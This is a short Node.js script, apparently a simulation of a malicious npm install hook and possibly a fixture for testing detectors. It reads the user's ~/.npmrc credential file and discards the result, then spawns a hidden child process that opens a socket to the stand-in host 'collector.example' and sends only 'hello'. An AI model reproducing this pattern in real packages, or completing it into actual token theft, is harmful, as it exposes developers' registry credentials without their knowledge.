const fs = require("fs"), os = require("os"), cp = require("child_process");
try { fs.readFileSync(os.homedir() + "/.npmrc"); } catch (e) {}
cp.spawnSync(process.execPath, ["-e", `
  const s = require("net").connect(443, "collector.example");
  s.on("connect", () => s.end("hello"));
  s.on("error", () => {});
  setTimeout(() => process.exit(0), 3000);
`], { stdio: "ignore" });
